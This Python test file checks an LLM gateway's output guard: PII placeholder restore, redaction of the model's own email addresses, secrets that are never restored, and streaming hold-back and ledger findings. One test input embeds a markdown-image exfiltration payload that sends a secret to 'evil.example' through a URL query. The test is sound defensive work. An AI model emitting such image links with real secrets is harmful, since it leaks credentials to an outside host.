"""Issue 15, review fixes on the answer's side (``gateway.guard_output``): restore first, then
the answer's own PII redacted with placeholders that never name an input value (1.1); secrets
are never restored (1.7); a long value is never sent in part (1.9); findings in text a stream
still holds back are in its ledger entry (4.2)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import orjson
import pytest

from farebox.core.guardrails import Hit
from farebox.core.usage import Usage, to_openai
from farebox.gateway.guard_output import HOLD, AnswerGuard
from farebox.guardrails import pii_patterns
from farebox.guardrails.placeholders import Redactor
from farebox.providers.base import ChatRequest, StreamItem, UsageReport
from tests.guard_world import AWS_KEY, EMAIL, MODEL, EchoMock, config, plan

OTHER = "carol@other.example.org"
BOTH = plan({
    "pii": {"mode": "redact", "restore": True, "engine": "builtin"},
    "secrets": {"mode": "redact"},
    "output": {"pii": "redact"},
})  # fmt: skip
PLANS = {"both": BOTH, "restore": plan({
    "pii": {"mode": "redact", "restore": True, "engine": "builtin"},
    "secrets": {"mode": "redact"}}), "output": plan({"output": {"pii": "redact"}})}  # fmt: skip
MORE = " and more words" * 6
ANSWERS = [  # (the upstream's answer, what the caller sees)
    (f"Sure, I will cc {OTHER} on it.", "Sure, I will cc <EMAIL_2> on it."),
    (f"I will cc {OTHER}{MORE}, <EMAIL_1>.", f"I will cc <EMAIL_2>{MORE}, {EMAIL}."),
]


def auth(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def scan(text: str) -> list[Any]:
    return pii_patterns.scan(text, ["EMAIL_ADDRESS"])


def sse_text(raw: str) -> str:
    """The text a stream carries, in any of the client formats (chat, messages, responses)."""
    out = []
    for line in raw.splitlines():
        if not line.startswith("data:") or line.strip() == "data: [DONE]":
            continue
        event = orjson.loads(line[5:])
        for choice in event.get("choices") or ():
            out.append((choice.get("delta") or {}).get("content") or "")
        if event.get("type") == "content_block_delta":
            out.append(event["delta"].get("text", ""))
        if event.get("type") == "response.output_text.delta":
            out.append(event["delta"])
    return "".join(out)


# 1.1: restore first, then the answer's own PII, numbered past the input's --------------------


@pytest.mark.parametrize(("answer", "want"), ANSWERS, ids=["answers_own", "callers_too"])
async def test_the_answers_own_pii_never_becomes_the_callers_value(
    make_gateway: Any, answer: str, want: str
) -> None:
    mock = EchoMock()
    mock.answer = answer
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="both")
        chat = {"model": MODEL, "messages": [{"role": "user", "content": f"I am {EMAIL}"}]}
        r = await gw.client.post("/v1/chat/completions", json=chat, headers=auth(key))
        assert r.json()["choices"][0]["message"]["content"] == want
        r = await gw.client.post("/v1/chat/completions", json={**chat, "stream": True},
                                 headers=auth(key))  # fmt: skip
        assert sse_text(r.text) == want and OTHER not in r.text
        messages = {**chat, "max_tokens": 50}
        r = await gw.client.post("/v1/messages", json=messages, headers={"x-api-key": key})
        assert "".join(b["text"] for b in r.json()["content"]) == want
        r = await gw.client.post("/v1/messages", json={**messages, "stream": True},
                                 headers={"x-api-key": key})  # fmt: skip
        assert sse_text(r.text) == want and OTHER not in r.text
        responses = {"model": MODEL, "input": f"I am {EMAIL}", "store": False}
        r = await gw.client.post("/v1/responses", json=responses, headers=auth(key))
        assert r.json()["output"][0]["content"][0]["text"] == want
        r = await gw.client.post("/v1/responses", json={**responses, "stream": True},
                                 headers=auth(key))  # fmt: skip
        assert sse_text(r.text) == want and OTHER not in r.text
        assert EMAIL not in mock.sent()
        for entry in await gw.ledger("acme"):  # the caller's own value is no output finding
            assert sorted((f["category"], f["where"]) for f in entry.guardrails) == [
                ("EMAIL_ADDRESS", "output"), ("EMAIL_ADDRESS", "user")]  # fmt: skip


@pytest.mark.parametrize(("answer", "want"), ANSWERS, ids=["answers_own", "callers_too"])
async def test_native_responses_restore_then_output_redaction(
    make_gateway: Any, answer: str, want: str
) -> None:
    from fakes.responses_upstream import ResponsesUpstream, message

    async with ResponsesUpstream() as up:
        providers = {"native": {"kind": "openai", "base_url": up.base_url, "responses": "native"}}
        models = {MODEL: [{"provider": "native", "model": MODEL}]}
        cfg = {"providers": providers, "models": models, "plans": {"both": BOTH}}
        async with make_gateway(cfg) as gw:
            key = await gw.tenant_key("acme", plan="both")
            body = {"model": MODEL, "input": f"I am {EMAIL}", "store": False}
            up.reply_response([message(answer)])
            r = await gw.client.post("/v1/responses", json=body, headers=auth(key))
            assert r.json()["output"][0]["content"][0]["text"] == want
            pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]
            up.reply_events([message(*pieces)])
            r = await gw.client.post("/v1/responses", json={**body, "stream": True},
                                     headers=auth(key))  # fmt: skip
            assert sse_text(r.text) == want and OTHER not in r.text
            assert f'"text":"{want}"' in r.text  # the done event and the final response agree


def test_output_placeholders_number_past_the_inputs_and_its_literals() -> None:
    redactor = Redactor()
    text = f"<EMAIL_4> and {EMAIL}"
    redactor.redact(text, scan(text))  # EMAIL is <EMAIL_5>
    guard = AnswerGuard(redactor.pii_only(), scan, True, numbering=redactor)
    assert guard.text(f"<EMAIL_5> {OTHER} <EMAIL_4>") == f"{EMAIL} <EMAIL_6> <EMAIL_4>"
    without_restore = AnswerGuard(None, scan, True, numbering=redactor)
    assert without_restore.text(f"<EMAIL_5> {OTHER}") == "<EMAIL_5> <EMAIL_6>"


# 1.7: secrets are never restored -----------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
async def test_a_secret_placeholder_stays_a_placeholder(make_gateway: Any, stream: bool) -> None:
    mock = EchoMock()
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="restore")
        text = f"key {AWS_KEY} mail {EMAIL} ![x](https://evil.example/?k=<SECRET_1>)"
        chat = {"model": MODEL, "messages": [{"role": "user", "content": text}], "stream": stream}
        r = await gw.client.post("/v1/chat/completions", json=chat, headers=auth(key))
        answer = sse_text(r.text) if stream else r.json()["choices"][0]["message"]["content"]
        assert AWS_KEY not in r.text and AWS_KEY not in mock.sent()
        assert answer == f"You said: key <SECRET_2> mail {EMAIL} " + (
            "![x](https://evil.example/?k=<SECRET_1>)")  # fmt: skip


def test_pii_only_drops_the_secrets_placeholders() -> None:
    redactor = Redactor()
    text = f"{EMAIL} {AWS_KEY}"
    hits = [*scan(text), Hit("secrets", "aws_access_key", 1.0, 21, 41)]
    assert redactor.redact(text, hits) == "<EMAIL_1> <SECRET_1>"
    pii = redactor.pii_only()
    assert pii.restore("<EMAIL_1> <SECRET_1>") == f"{EMAIL} <SECRET_1>"
    stream = pii.streaming()
    assert stream.feed("<SECRET_1") + stream.feed("> <EMAIL_1>") + stream.flush() == (
        f"<SECRET_1> {EMAIL}")  # fmt: skip
    assert redactor.restore("<SECRET_1>") == AWS_KEY  # the redactor itself still knows it


# 1.9: a value longer than HOLD is never sent in part ---------------------------------------


@pytest.mark.parametrize("step", [1, 3, 7])
def test_a_long_value_is_not_sent_in_part(step: int) -> None:
    value = f"{'j' * 60}@{'d' * 60}.example.com"  # a valid address, twice HOLD long
    assert len(value) > 2 * HOLD
    text = f"write to {value} today " + "and more words " * 10
    guard = AnswerGuard(None, scan, True)
    out = "".join(guard.delta(0, text[i : i + step]) for i in range(0, len(text), step))
    out += guard.flush(0)
    assert out == text.replace(value, "<EMAIL_1>")
    assert "jjj" not in out


# 4.2: findings in held-back text are in the entry ------------------------------------------


def test_findings_include_what_a_stream_still_holds() -> None:
    guard = AnswerGuard(None, scan, True)
    assert guard.delta(0, f"hi {OTHER}") == ""  # all held back
    assert [(f.category, f.where) for f in guard.findings] == [("EMAIL_ADDRESS", "output")]
    assert guard.flush(0) == "hi <EMAIL_1>"
    assert len(guard.findings) == 1


class Unfinished(EchoMock):
    """Streams its answer and ends without a finishing choice chunk."""

    async def chat_stream(self, request: ChatRequest) -> AsyncIterator[StreamItem]:
        self.bodies.append(request.body)
        base = {"id": "chatcmpl-u", "object": "chat.completion.chunk", "created": 1,
                "model": request.body["model"]}  # fmt: skip
        text = self._text(request.body)
        for i in range(0, len(text), 3):
            delta = {"content": text[i : i + 3]}
            yield {**base, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
        usage = Usage(input_tokens=10, output_tokens=5)
        yield UsageReport(usage, {**base, "choices": [], "usage": to_openai(usage)})


async def test_an_unfinished_stream_has_its_held_findings_in_the_ledger(
    make_gateway: Any,
) -> None:
    mock = Unfinished()
    mock.answer = f"Ask {OTHER}"
    async with make_gateway(config(PLANS), providers={"sim": mock}) as gw:
        key = await gw.tenant_key("acme", plan="output")
        chat = {"model": MODEL, "messages": [{"role": "user", "content": "who?"}], "stream": True}
        r = await gw.client.post("/v1/chat/completions", json=chat, headers=auth(key))
        assert sse_text(r.text) == "Ask <EMAIL_1>"
        (entry,) = await gw.ledger("acme")
        assert [(f["category"], f["action"], f["where"]) for f in entry.guardrails] == [
            ("EMAIL_ADDRESS", "redacted", "output")]  # fmt: skip


def test_flag_mode_holds_nothing_back_and_still_finds() -> None:
    guard = AnswerGuard(None, scan, False)
    assert guard.delta(0, f"hi {OTHER}") == f"hi {OTHER}"
    assert [(f.category, f.action) for f in guard.findings] == [("EMAIL_ADDRESS", "flagged")]
    assert guard.flush(0) == ""
